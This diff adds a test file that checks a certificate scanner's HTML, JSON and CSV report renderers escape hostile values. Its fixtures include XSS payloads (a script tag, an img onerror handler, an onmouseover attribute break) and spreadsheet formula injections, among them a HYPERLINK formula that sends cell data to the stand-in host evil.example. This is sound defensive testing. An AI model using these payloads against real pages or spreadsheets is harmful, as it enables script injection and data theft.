@@ -1,0 +1,316 @@
+import { createHash } from "node:crypto";
+import { describe, expect, it } from "vitest";
+
+import type { Finding } from "../../src/model/types.js";
+import { renderInventoryCsv } from "../../src/reports/csv.js";
+import { escapeHtml } from "../../src/reports/escape.js";
+import { renderHtml } from "../../src/reports/html.js";
+import { renderJson } from "../../src/reports/json.js";
+import type { Report, ReportCertificate } from "../../src/reports/report-model.js";
+
+const sha = (name: string): string => createHash("sha256").update(name).digest("hex");
+const ROOT = sha("root");
+const ISSUING = sha("issuing");
+const LEAF = sha("leaf");
+const BROKEN = sha("broken");
+
+// Values a hostile server or certificate author controls.
+const SCRIPT_SUBJECT = "CN=<script>alert(1)</script>, O=Evil";
+const IMG_SAN = 'DNS:"><img src=x onerror=alert(1)>';
+const AMPERSAND_ERROR = "TLS handshake failed: alert & reset <ssl3>";
+const CELL_BREAKING_MESSAGE = "weak key</td><td>pwned";
+const CERT_URL = "http://crl.example.com/root.crl";
+
+function certificate(fields: Pick<ReportCertificate, "sha256" | "subject" | "issuer"> & Partial<ReportCertificate>): ReportCertificate {
+  return {
+    serialNumber: "01", notBefore: "2024-01-01T00:00:00.000Z", notAfter: "2034-01-01T00:00:00.000Z",
+    keyAlgorithm: "RSA", keySize: 4096, curve: null, signatureAlgorithm: "sha256WithRSAEncryption", sans: [], isCA: true,
+    endpoints: [], files: [], sources: ["aia"], trustedPath: null, crlDistributionPoints: [], ocspUrls: [],
+    caIssuersUrls: [], certificatePolicies: [], extendedKeyUsage: [], keyUsage: ["keyCertSign", "cRLSign"],
+    ...fields,
+  };
+}
+
+function finding(fields: Pick<Finding, "ruleId" | "severity" | "message"> & Partial<Finding>): Finding {
+  return {
+    id: sha(fields.ruleId).slice(0, 24), category: "security", certificate: LEAF,
+    endpoints: ["192.0.2.10:443#www.example.com"], url: null, evidence: {}, ...fields,
+  };
+}
+
+/** A small but complete run: root → issuing CA → hostile leaf, one endpoint per status, one of each severity. */
+function sampleReport(): Report {
+  const certificates = [
+    certificate({ sha256: ROOT, subject: "CN=Example Root CA", issuer: "CN=Example Root CA", sources: ["anchor"], trustedPath: [ROOT] }),
+    certificate({ sha256: ISSUING, subject: "CN=Example Issuing CA", issuer: "CN=Example Root CA", trustedPath: [ISSUING, ROOT] }),
+    certificate({
+      sha256: LEAF, subject: SCRIPT_SUBJECT, issuer: "CN=Example Issuing CA", serialNumber: "5e2f", keyAlgorithm: "EC",
+      keySize: 256, curve: "P-256", signatureAlgorithm: "ecdsa-with-SHA256", sans: [IMG_SAN, "DNS:www.example.com"],
+      isCA: false, endpoints: ["192.0.2.10:443#www.example.com"], files: ["/etc/ssl/leaf.pem"], sources: ["tls", "file"],
+      trustedPath: [LEAF, ISSUING, ROOT], crlDistributionPoints: [CERT_URL], keyUsage: ["digitalSignature"],
+    }),
+  ];
+  const endpoint = (address: string, port: number, status: string, error: string | null) => ({
+    id: `${address}:${port}`, address, port, sni: null, status, error, tlsVersion: null, cipher: null, chain: [],
+    stapledOcsp: false, observedAt: "2025-06-01T10:00:01.000Z", durationMs: 12,
+  });
+  return {
+    schemaVersion: 1,
+    scan: {
+      id: "6f1c2a7e-5b3d-4c1e-9a0f-2d8e7b6c5a41", startedAt: "2025-06-01T10:00:00.000Z",
+      finishedAt: "2025-06-01T10:05:00.000Z", complete: true, targets: ["192.0.2.0/28", "www.example.com"],
+      ports: [443, 8443], trustAnchors: "mozilla", stats: { probes: "32" },
+    },
+    summary: {
+      endpointsByStatus: { tls: 1, closed: 1, timeout: 1, "not-tls": 1, error: 1 }, certificates: 3, cas: 2, unparsable: 1,
+      findingsBySeverity: { critical: 1, high: 1, medium: 1, low: 1, info: 1 },
+    },
+    inventory: {
+      endpoints: [
+        {
+          ...endpoint("192.0.2.10", 443, "tls", null), id: "192.0.2.10:443#www.example.com", sni: "www.example.com",
+          tlsVersion: "TLSv1.3", cipher: "TLS_AES_256_GCM_SHA384", chain: [LEAF, ISSUING],
+        },
+        endpoint("192.0.2.11", 443, "closed", "connection refused"),
+        endpoint("192.0.2.12", 8443, "timeout", "TLS handshake did not complete within 5000 ms"),
+        endpoint("192.0.2.13", 443, "not-tls", "answered, but not with TLS (first byte 0x48)"),
+        endpoint("192.0.2.14", 443, "error", AMPERSAND_ERROR),
+      ],
+      certificates,
+      cas: [
+        { sha256: ROOT, subject: "CN=Example Root CA", issuer: "CN=Example Root CA", notAfter: "2034-01-01T00:00:00.000Z", sanctioned: true, anchor: true, issued: 1, parent: null },
+        { sha256: ISSUING, subject: "CN=Example Issuing CA", issuer: "CN=Example Root CA", notAfter: "2034-01-01T00:00:00.000Z", sanctioned: true, anchor: false, issued: 1, parent: ROOT },
+      ],
+      unparsable: [{ sha256: BROKEN, error: "ASN.1 decode failed: <truncated>", locations: ["/etc/ssl/broken.pem"] }],
+    },
+    findings: [
+      finding({ ruleId: "roca-key", severity: "critical", message: CELL_BREAKING_MESSAGE, evidence: { roca: true } }),
+      finding({ ruleId: "expired", severity: "high", category: "reliability", message: "expired 2025-01-01", evidence: { daysAgo: 151 } }),
+      finding({ ruleId: "crl-unreachable", severity: "medium", message: "CRL not fetched", certificate: ROOT, endpoints: [], url: CERT_URL }),
+      finding({ ruleId: "short-validity", severity: "low", category: "agility", message: "fine", certificate: null, endpoints: [] }),
+      finding({ ruleId: "expired", severity: "info", category: "reliability", message: "duplicate rule id on the leaf" }),
+    ],
+    ruleFailures: [{ ruleId: "ocsp-stapling", error: "TypeError: cannot read <undefined> & more" }],
+  };
+}
+
+describe("renderJson", () => {
+  it("is the report as 2-space JSON with a trailing newline", () => {
+    const report = sampleReport();
+    const text = renderJson(report);
+    expect(text.endsWith("}\n")).toBe(true);
+    expect(text).toContain('\n  "schemaVersion": 1,');
+    expect(JSON.parse(text)).toEqual(report);
+  });
+});
+
+/** Tags as written (`<name attrs>`), after the doctype. Escaped text never contains "<", so this sees all markup. */
+function tags(page: string): { name: string; attributes: string }[] {
+  return [...page.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g)].map((m) => ({ name: m[1]!.toLowerCase(), attributes: m[2]! }));
+}
+
+/** What is left of a tag's attributes after removing well-formed name="value" pairs: injected text, if any. */
+function strayAttributeText(attributes: string): string {
+  return attributes.replace(/\s[a-z-]+="[^"]*"/g, "").trim();
+}
+
+const ALLOWED_TAGS = new Set([
+  "html", "head", "meta", "title", "style", "body", "header", "main", "footer", "section", "h1", "h2", "h3", "p", "div",
+  "span", "strong", "code", "pre", "br", "a", "dl", "dt", "dd", "details", "summary", "ul", "li", "table", "thead", "tbody",
+  "tr", "th", "td",
+]);
+
+describe("renderHtml", () => {
+  const page = renderHtml(sampleReport());
+
+  it("escapes every hostile value instead of emitting it as markup", () => {
+    for (const hostile of [SCRIPT_SUBJECT, IMG_SAN, AMPERSAND_ERROR, CELL_BREAKING_MESSAGE]) {
+      expect(page).not.toContain(hostile);
+      expect(page).toContain(escapeHtml(hostile));
+    }
+    expect(page).not.toContain("<script");
+    expect(page).not.toContain("<img");
+    expect(page).toContain("&lt;truncated&gt;");
+    expect(page).toContain("&lt;undefined&gt; &amp; more");
+  });
+
+  it("contains only known tags, with quoted attributes and no event handlers", () => {
+    for (const { name, attributes } of tags(page)) {
+      expect(ALLOWED_TAGS, name).toContain(name);
+      expect(strayAttributeText(attributes), attributes).toBe("");
+      expect(attributes).not.toMatch(/\son[a-z]+=|\ssrc=|\sstyle=/i);
+    }
+  });
+
+  it("loads nothing and links only within the page", () => {
+    const hrefs = tags(page).flatMap(({ attributes }) => [...attributes.matchAll(/\shref="([^"]*)"/g)].map((m) => m[1]!));
+    expect(hrefs.length).toBeGreaterThan(0);
+    for (const href of hrefs) expect(href).toMatch(/^#cert-[0-9a-f]{64}$/);
+    expect(page).not.toMatch(/url\(|@import|<link|<script/i);
+    expect(page).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`);
+    // The certificate's CRL URL is shown, as text only.
+    expect(page).toContain(`<code>${CERT_URL}</code>`);
+  });
+
+  it("links a finding's certificate to its inventory row", () => {
+    expect(page).toContain(`<tr id="cert-${LEAF}">`);
+    expect(page).toContain(`<a href="#cert-${LEAF}">${escapeHtml(SCRIPT_SUBJECT)}</a>`);
+  });
+
+  it("never builds an id or link from a certificate id that is not a sha256", () => {
+    const report = sampleReport();
+    const forged = 'x" onmouseover="alert(1)';
+    report.findings[0]!.certificate = forged;
+    report.inventory.certificates[2]!.sha256 = forged;
+    report.inventory.cas[1]!.sha256 = forged;
+    const forgedPage = renderHtml(report);
+    expect(forgedPage).not.toContain(forged);
+    expect(forgedPage).toContain(escapeHtml(forged));
+    expect(forgedPage).not.toMatch(/(href="#|id=")cert-x/);
+    // Shown as text (a title attribute included), escaped so that it cannot end an attribute.
+    for (const { attributes } of tags(forgedPage)) expect(strayAttributeText(attributes), attributes).toBe("");
+  });
+
+  it("shows the incomplete banner if and only if the scan is incomplete", () => {
+    const banner = '<div class="banner banner-incomplete" role="alert">';
+    expect(page).not.toContain(banner);
+    const report = sampleReport();
+    report.scan.complete = false;
+    report.scan.finishedAt = null;
+    const partial = renderHtml(report);
+    expect(partial).toContain(banner);
+    expect(partial).toContain("not finished");
+  });
+
+  it("groups findings by severity and counts them in coloured badges", () => {
+    for (const severity of ["critical", "high", "medium", "low", "info"]) {
+      expect(page).toContain(`<span class="badge sev-${severity}">${severity} 1</span>`);
+      expect(page).toContain(`<h3><span class="badge sev-${severity}">${severity}</span> 1</h3>`);
+    }
+    const order = ["roca-key", "expired", "crl-unreachable", "short-validity"].map((id) => page.indexOf(`<code>${id}</code>`));
+    expect(order).toEqual([...order].sort((a, b) => a - b));
+  });
+
+  it("lists endpoints of every status and the unparsable certificate", () => {
+    for (const status of ["tls", "closed", "timeout", "not-tls", "error"]) expect(page).toContain(`<span class="pill">${status}</span>`);
+    expect(page).toContain("<code>192.0.2.10:443</code>");
+    expect(page).toContain(`<code>${BROKEN}</code>`);
+  });
+
+  it("nests the issuing CA under the root in the CA tree", () => {
+    const tree = caTreeDepths(page);
+    expect(tree.get("CN=Example Root CA")).toBe(1);
+    expect(tree.get("CN=Example Issuing CA")).toBe(2);
+  });
+
+  it("puts a CA whose parent is missing at the top, and survives parent loops", () => {
+    const report = sampleReport();
+    const [root, issuing] = report.inventory.cas;
+    root!.parent = ISSUING; // root → issuing → root
+    const orphan = { ...issuing!, sha256: sha("orphan"), subject: "CN=Orphan CA", parent: sha("not in the list") };
+    const selfParent = { ...issuing!, sha256: sha("self"), subject: "CN=Self CA", parent: sha("self") };
+    report.inventory.cas.push(orphan, selfParent);
+    const loopPage = renderHtml(report);
+    const tree = caTreeDepths(loopPage);
+    expect(tree.get("CN=Orphan CA")).toBe(1);
+    expect(tree.get("CN=Self CA")).toBe(1);
+    expect(tree.get("CN=Example Root CA")).toBe(1);
+    expect(tree.get("CN=Example Issuing CA")).toBe(2);
+    expect(loopPage).toContain("loop: shown above");
+    expect(loopPage).toContain("is not among these CAs");
+  });
+});
+
+/** Nesting depth (in <ul>s) of the first occurrence of each CA subject in the CA tree section. */
+function caTreeDepths(page: string): Map<string, number> {
+  const section = page.slice(page.indexOf('<section id="ca-tree">'), page.indexOf("</section>", page.indexOf('<section id="ca-tree">')));
+  const depths = new Map<string, number>();
+  let depth = 0;
+  for (const m of section.matchAll(/<(\/?)ul\b[^>]*>|<a href="#cert-[0-9a-f]{64}">([^<]*)<\/a>/g)) {
+    if (m[2] !== undefined) {
+      if (!depths.has(m[2])) depths.set(m[2], depth);
+    } else depth += m[1] ? -1 : 1;
+  }
+  return depths;
+}
+
+/** A strict RFC 4180 parser: CRLF between records, quotes only around whole fields. */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let fields: string[] = [];
+  let i = 0;
+  while (i < text.length) {
+    let field = "";
+    if (text[i] === '"') {
+      for (i++; ; i++) {
+        if (i >= text.length) throw new Error("unterminated quoted field");
+        if (text[i] === '"' && text[i + 1] === '"') field += text[i++];
+        else if (text[i] === '"') break;
+        else field += text[i];
+      }
+      i++;
+    } else {
+      while (i < text.length && !/[,\r\n"]/.test(text[i]!)) field += text[i++];
+    }
+    fields.push(field);
+    if (text[i] === ",") i++;
+    else if (text.startsWith("\r\n", i)) {
+      records.push(fields);
+      fields = [];
+      i += 2;
+    } else throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
+  }
+  if (fields.length > 0) throw new Error("last record not terminated by CRLF");
+  return records;
+}
+
+const CSV_HEADER = "sha256,subject,issuer,serialNumber,notBefore,notAfter,keyAlgorithm,keySize,curve,signatureAlgorithm,sans,isCA,sanctioned,endpoints,files,sources,findings";
+
+describe("renderInventoryCsv", () => {
+  it("writes a header and one CRLF-terminated row per certificate", () => {
+    const text = renderInventoryCsv(sampleReport());
+    expect(text.startsWith(`${CSV_HEADER}\r\n`)).toBe(true);
+    const records = parseCsv(text);
+    expect(records).toHaveLength(4);
+    for (const record of records) expect(record).toHaveLength(17);
+  });
+
+  it("fills each column from the certificate and its findings", () => {
+    const report = sampleReport();
+    report.inventory.certificates[0]!.trustedPath = null;
+    const [header, root, , leaf] = parseCsv(renderInventoryCsv(report));
+    const row = (values: string[]) => Object.fromEntries(header!.map((name, i) => [name, values[i]]));
+    expect(row(leaf!)).toMatchObject({
+      sha256: LEAF, subject: SCRIPT_SUBJECT, keyAlgorithm: "EC", keySize: "256", curve: "P-256",
+      sans: `${IMG_SAN}; DNS:www.example.com`, isCA: "false", sanctioned: "true",
+      endpoints: "192.0.2.10:443#www.example.com", files: "/etc/ssl/leaf.pem", sources: "tls; file",
+      findings: "roca-key; expired",
+    });
+    expect(row(root!)).toMatchObject({ sha256: ROOT, isCA: "true", sanctioned: "false", curve: "", findings: "crl-unreachable" });
+  });
+
+  it("quotes fields with commas, quotes and line breaks, and reads back the same value", () => {
+    const report = sampleReport();
+    const subject = 'CN="Quoted, Inc."\r\nOU=two\nlines';
+    report.inventory.certificates[0]!.subject = subject;
+    const text = renderInventoryCsv(report);
+    expect(text).toContain('"CN=""Quoted, Inc.""\r\nOU=two\nlines"');
+    expect(parseCsv(text)[1]![1]).toBe(subject);
+  });
+
+  it("defuses fields a spreadsheet would run as a formula", () => {
+    const report = sampleReport();
+    const [first, second, third] = report.inventory.certificates;
+    first!.subject = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    first!.issuer = "+1+1";
+    first!.serialNumber = "-2";
+    second!.subject = "@SUM(A1)";
+    second!.issuer = "\tCN=tab";
+    third!.subject = "\rCN=carriage return";
+    third!.issuer = "CN=harmless = sign later";
+    const [, a, b, c] = parseCsv(renderInventoryCsv(report));
+    expect(a!.slice(1, 4)).toEqual([`'${first!.subject}`, "'+1+1", "'-2"]);
+    expect(b!.slice(1, 3)).toEqual(["'@SUM(A1)", "'\tCN=tab"]);
+    expect(c!.slice(1, 3)).toEqual(["'\rCN=carriage return", "CN=harmless = sign later"]);
+  });
+});
